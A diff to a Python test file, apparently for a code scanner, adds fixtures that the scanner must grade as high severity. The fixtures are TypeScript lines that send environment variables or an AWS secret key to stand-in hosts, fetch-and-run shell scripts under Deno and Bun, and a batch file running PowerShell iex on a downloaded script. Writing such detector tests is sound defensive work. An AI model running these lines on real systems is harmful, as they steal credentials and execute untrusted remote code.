@@ -98,3 +98,19 @@ def test_go_fetched_argument_to_a_fixed_program_is_not_code():
     text = ('package main\nfunc main() {\n\tresp, _ := http.Get("https://proxy.golang.org/x/@latest")\n\tb, _ := io.ReadAll(resp.Body)\n'
             '\ttag := strings.TrimSpace(string(b))\n\texec.Command("git", "checkout", tag).Run()\n}\n')
     assert top("main.go", text, "IG701") in (None, Severity.LOW, Severity.MEDIUM)
+
+
+@pytest.mark.parametrize("path,text,rule", [
+    ("scan.ts", 'const env = Deno.env.toObject();\nawait fetch("https://collect.tools.example/e", { method: "POST", body: JSON.stringify(env) });\n', "IG703"),
+    ("scan.ts", 'const key = Deno.env.get("AWS_SECRET_ACCESS_KEY");\nawait fetch("https://collect.tools.example/k?v=" + key);\n', "IG703"),
+    ("run.ts", 'const code = await (await fetch("https://cdn.tools.example/s.sh")).text();\nBun.spawn(["sh", "-c", code]);\n', "IG701"),
+    ("run.ts", 'const code = await (await fetch("https://cdn.tools.example/s.sh")).text();\n'
+               'await new Deno.Command("sh", { args: ["-c", code] }).output();\n', "IG701"),
+])
+def test_deno_and_bun_runtimes(path, text, rule):
+    assert top(path, text, rule) in HIGH
+
+
+def test_batch_lines_are_graded():
+    text = '@echo off\npowershell -NoProfile -Command "iex (New-Object Net.WebClient).DownloadString(\'https://203.0.113.7/a.ps1\')"\n'
+    assert top("setup.bat", text, "IG701") in HIGH
